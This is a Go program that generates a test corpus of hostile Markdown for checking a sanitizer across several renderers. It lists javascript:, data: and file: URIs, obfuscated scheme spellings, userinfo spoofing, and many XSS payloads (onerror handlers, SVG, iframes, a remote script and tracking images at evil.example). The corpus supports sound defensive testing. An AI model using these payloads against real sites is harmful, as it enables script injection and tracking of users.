//go:build ignore

// gen_render_corpus writes testdata/render_corpus.txt, the hostile Markdown
// the render check feeds through SanitizeMarkdown and four real renderers:
// every hostile link target in every construct that can carry one, then
// the classes that need no target (raw HTML, event handlers, SVG, linkify
// forms, nested and broken constructs), each line one input written as
// the inside of a Go string literal (so \n is a newline and \\ a
// backslash). Run with go generate ./test/security.
package main

import (
	"fmt"
	"log"
	"os"
	"strings"
)

// targets are link destinations that must never survive as a link: other
// schemes, the same spelled with entities, percent-encoding and whitespace,
// user information, and relative forms a client would resolve against its
// own origin.
var targets = map[string][]string{
	"schemes": {
		`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `vbscript:msgbox(1)`,
		`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,%3Csvg%20onload=alert(1)%3E`,
		`file:///etc/passwd`, `ftp://evil.example/x`, `mailto:victim@evil.example`, `xmpp:user@evil.example`,
		`tel:+15555550100`, `sms:+15555550100`, `irc://evil.example/chan`, `ssh://evil.example`,
		`intent://x#Intent;scheme=http;end`, `blob:https://evil.example/1`, `about:blank`, `ws://evil.example/s`,
		`view-source:https://evil.example/`, `jar:file:x!/y`, `feed:https://evil.example/`,
	},
	"entities": {
		`&#106;avascript:alert(1)`, `&#x6A;avascript:alert(1)`, `javascript&colon;alert(1)`, `java&#x09;script:alert(1)`,
		`jav&#97;script:alert(1)`, `&#0000106;avascript:alert(1)`, `javascript&#58;alert(1)`, `ftp&#58;//evil.example/x`,
		`https&#58;//trusted.example&#64;attacker.example/`, `mailto&#58;victim&#64;evil.example`,
	},
	"percent and whitespace": {
		`javascript%3Aalert(1)`, `%6Aavascript:alert(1)`, `java\x09script:alert(1)`, `java\nscript:alert(1)`,
		` javascript:alert(1)`, `\x01javascript:alert(1)`, `java script:alert(1)`, `javascript\x00:alert(1)`,
	},
	"userinfo": {
		`https://trusted.example@attacker.example/`, `https://user:pass@evil.example/`, `http://a%40b@evil.example/`,
		`https://trusted.example\\@attacker.example/`, `https://trusted.example&#64;attacker.example/`,
		`HTTPS://trusted.example@attacker.example`, `https://@evil.example/`, `https://:@evil.example/`,
	},
	"relative": {
		`//evil.example/x`, `\\\\evil.example\\x`, `/relative/path`, `./x`, `../x`, `#frag`, `?q=1`, `evil.example/x`,
		`https:evil.example`, `http:/evil.example`, ``,
	},
}

// templates place a target T where Markdown or HTML can carry it.
var templates = []string{
	`[x](T)`, `[x](T "title")`, `[x](<T>)`, `![x](T)`, `[x][r]\n\n[r]: T`, `![x][r]\n\n[r]: T`,
	`<T>`, `see T now`, `<a href="T">x</a>`, `<img src="T">`, `<iframe src="T"></iframe>`,
	`<form action="T"><button formaction="T">x</button></form>`, `<svg><a xlink:href="T"><text>x</text></a></svg>`,
	`[T](https://ok.example/)`, `[![x](T)](https://ok.example/)`,
}

// standalone are the classes with no target: HTML, handlers, SVG, the bare
// forms a linkifier turns into links, footnotes, and constructs broken or
// nested so that removing one piece could assemble another.
var standalone = map[string][]string{
	"raw HTML and handlers": {
		`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`,
		`<img src="https://evil.example/p.png">`, `<body onload=alert(1)>`, `<div onmouseover="alert(1)">x</div>`,
		`<a href="https://ok.example/" onclick="alert(1)">x</a>`, `<details open ontoggle=alert(1)>`,
		`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<object data="https://evil.example/x.swf">`,
		`<embed src="https://evil.example/x">`, `<link rel=stylesheet href="https://evil.example/x.css">`,
		`<style>@import url(https://evil.example/x.css)</style>`, `<style>body{background:url(https://evil.example/p)}</style>`,
		`<div style="background:url(https://evil.example/p)">x</div>`, `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
		`<base href="https://evil.example/">`, `<input type=image src=https://evil.example/p>`, `<isindex action=javascript:alert(1)>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<template><img src=x onerror=alert(1)></template>`, `<textarea></textarea><img src=x onerror=alert(1)>`,
		`<img\nsrc=x\nonerror=alert(1)>`, `<img src=x onerror="alert(1)"\n>`, `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
		`<img src="x" alt=">" onerror=alert(1)>`, `<a href='javascript:alert(1)'>x</a>`, `<a href=javascript:alert(1)>x</a>`,
		`<!-- --><img src=x onerror=alert(1)>`, `<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`,
		`<?xml version="1.0"?><img src=x onerror=alert(1)>`, `<!DOCTYPE html><img src=x onerror=alert(1)>`,
		`<x onclick=alert(1)>click</x>`, `<custom-element onfocus=alert(1) autofocus>`, `<marquee onstart=alert(1)>`,
		`<picture><source srcset="https://evil.example/p.png"><img></picture>`, `<img srcset="https://evil.example/p.png 1x">`,
		`<table background="https://evil.example/p"><tr><td>x</td></tr></table>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`,
		`<a ping="https://evil.example/track" href="https://ok.example/">x</a>`, `<p>ok</p><img src=x onerror=alert(1)>`,
	},
	"SVG and iframes": {
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><image href="https://evil.example/p.png"/></svg>`,
		`<svg><use href="https://evil.example/s.svg#a"/></svg>`, `<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set attributeName="href" to="javascript:alert(1)"/></svg>`,
		`<svg><filter><feImage href="https://evil.example/p"/></filter></svg>`, `<svg/onload=alert(1)>`,
		`<iframe src="https://evil.example/"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<iframe src="javascript:alert(1)">`, `<frameset><frame src="https://evil.example/"></frameset>`,
		`<IFRAME SRC=https://evil.example/>`, `<iframe\nsrc=https://evil.example/>`,
	},
	"linkify forms": {
		`ftp://evil.example/x`, `xmpp:user@evil.example`, `mailto:victim@evil.example`, `victim@evil.example`,
		`www.evil.example`, `www.trusted.example@attacker.example`, `https://trusted.example@attacker.example/`,
		`http://user:pass@evil.example/`, `//evil.example/x`, `see //evil.example/x here`, `(ftp://evil.example/x)`,
		`*ftp://evil.example/x*`, `**victim@evil.example**`, `_xmpp:user@evil.example_`, `~~ftp://evil.example~~`,
		`ftp://evil.example/x.`, `ftp://evil.example/x,y`, `x ftp://evil.example/x y mailto:a@evil.example z`,
		`FTP://EVIL.EXAMPLE/X`, `xftp://evil.example/x`, `ftp&#58;//evil.example/x`, `ftp:\\/\\/evil.example/x`,
		`victim&#64;evil.example`, `victim\\@evil.example`, `victim&commat;evil.example`, `https://trusted.example\\@attacker.example/`,
		`https&#58;//trusted.example&#64;attacker.example/`, `https://trusted.example&#64;attacker.example/`,
		`https://ok.example/path)victim@evil.example`, `https://ok.example/?e=victim@evil.example`,
		`https://ok.example/@user/post`, `www.ok.example/?u=victim@evil.example`, `a.b@evil.example.com`,
		`"victim@evil.example"`, `<victim@evil.example>`, `<ftp://evil.example/x>`, `<xmpp:user@evil.example>`,
		`<mailto:victim@evil.example>`, `<https://trusted.example@attacker.example/>`, `[victim@evil.example]`,
		`[ftp://evil.example/x]`, `[link ftp://evil.example/x](https://ok.example/)`, `*[x](https://ok.example/)victim@evil.example*`,
		`irc://evil.example ssh://evil.example`, `xmpp:user@evil.example/resource`, `mailto:?to=victim@evil.example`,
		`\\\\evil.example\\share`, `file://evil.example/share`, `smb://evil.example/share`,
		"`victim@evil.example`", "`ftp://evil.example/x`", `    ftp://evil.example/x`, "```\nvictim@evil.example\n```",
		`> victim@evil.example`, `- ftp://evil.example/x`, `| a | victim@evil.example |\n|---|---|\n| ftp://evil.example/x | b |`,
		`# ftp://evil.example/x`, `user@evil.example:pass@evil.example`, `victim@evil.example.`, `victim@[127.0.0.1]`,
	},
	"footnotes and references": {
		`x[^1]\n\n[^1]: https://ok.example/`, `x[^note]\n\n[^note]: victim@evil.example`, `[^1]: javascript:alert(1)\n\nx[^1]`,
		`[x]\n\n[x]: javascript:alert(1)`, `[x]\n\n[x]: <javascript:alert(1)>`, `[x]\n\n[x]:\njavascript:alert(1)`,
		`[x]\n\n [x]: //evil.example`, `[x]\n\n> [x]: ftp://evil.example/x`, `[x][]\n\n[x]: mailto:a@evil.example`,
		`[X]\n\n[x]: https://trusted.example@attacker.example/`, `![x]\n\n[x]: https://evil.example/p.png`,
		`[x]: https://evil.example/p.png\n\n![x]`, `[a]: https://ok.example/\n[b]: javascript:alert(1)\n\n[a] [b]`,
	},
	"nested and broken constructs": {
		`<<x>https://trusted.example@attacker.example/>`, `<<x>ftp://evil.example/x>`, `<<x>javascript:alert(1)>`,
		`<im<x>g src=x onerror=alert(1)>`, `<<script>script>alert(1)<</script>/script>`, `<scr<!-- -->ipt>alert(1)</script>`,
		`[x](<x>javascript:alert(1))`, `[x]<x>(javascript:alert(1))`, `!<x>[x](https://evil.example/p.png)`,
		`![x](https://evil.example/p.png)<x>`, `!<!-- -->[x](https://evil.example/p.png)`, `[x]<!-- -->(javascript:alert(1))`,
		`[x](https://ok.example/ "a)b")(javascript:alert(1))`, `[[x](javascript:alert(1))](https://ok.example/)`,
		`[x](https://ok.example/)(javascript:alert(1))`, `[a [b](javascript:alert(1)) c](https://ok.example/)`,
		`![a ![b](https://evil.example/p.png) c](https://evil.example/q.png)`, `[x](javascript:alert(1)`, `[x](`,
		`![x](`, `<img src=x onerror=alert(1)`, `<a href="javascript:alert(1)"`, `[x]: javascript:alert(1) "t`,
		`\\<img src=x onerror=alert(1)>`, `\\[x](javascript:alert(1))`, `\\![x](https://evil.example/p.png)`,
		`&lt;img src=x onerror=alert(1)&gt;`, `&#60;img src=x onerror=alert(1)&#62;`, `&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;`,
		`<img src=x onerror=alert(1)>\n\n<img src=y>`, `*<img src=x onerror=alert(1)>*`, `[<img src=x onerror=alert(1)>](https://ok.example/)`,
		`[x](https://ok.example/<img src=x onerror=alert(1)>)`, `<https://ok.example/<img src=x onerror=alert(1)>>`,
		"`<img src=x onerror=alert(1)>`", "```html\n<img src=x onerror=alert(1)>\n```", `    <img src=x onerror=alert(1)>`,
		`<div>\n\n[x](javascript:alert(1))\n\n</div>`, `<div>\n![x](https://evil.example/p.png)\n</div>`,
		`> <img src=x onerror=alert(1)>`, `- [x](javascript:alert(1))`, `1. ![x](https://evil.example/p.png)`,
		`| <img src=x onerror=alert(1)> |\n|---|`, `<details><summary>x</summary><img src=x onerror=alert(1)></details>`,
		`<a href="https://ok.example/">[x](javascript:alert(1))</a>`, `[x](javascript:alert(1))<!--`, `<!--\n[x](https://ok.example/)`,
		`x\u200b<img src=x onerror=alert(1)>`, `<\u200bimg src=x onerror=alert(1)>`, `[x](java\u200bscript:alert(1))`,
		`<img src=x o\u00adnerror=alert(1)>`, `[x](\u202ejavascript:alert(1))`, `<\x00img src=x onerror=alert(1)>`,
	},
}

func main() {
	var b strings.Builder
	b.WriteString("# Code generated by gen_render_corpus.go; DO NOT EDIT.\n")
	b.WriteString("# Hostile Markdown for the render check (render_test.go): each line is one\n")
	b.WriteString("# input (readCorpus escapes), sanitized and rendered by four renderers.\n")
	n := 0
	for _, class := range []string{"schemes", "entities", "percent and whitespace", "userinfo", "relative"} {
		fmt.Fprintf(&b, "# targets: %s\n", class)
		for _, t := range targets[class] {
			for _, tpl := range templates {
				b.WriteString(strings.ReplaceAll(tpl, "T", t) + "\n")
				n++
			}
		}
	}
	for _, class := range []string{"raw HTML and handlers", "SVG and iframes", "linkify forms", "footnotes and references", "nested and broken constructs"} {
		fmt.Fprintf(&b, "# %s\n", class)
		for _, s := range standalone[class] {
			b.WriteString(s + "\n")
			n++
		}
	}
	if err := os.WriteFile("testdata/render_corpus.txt", []byte(b.String()), 0o644); err != nil {
		log.Fatal(err)
	}
	log.Printf("%d inputs", n)
}
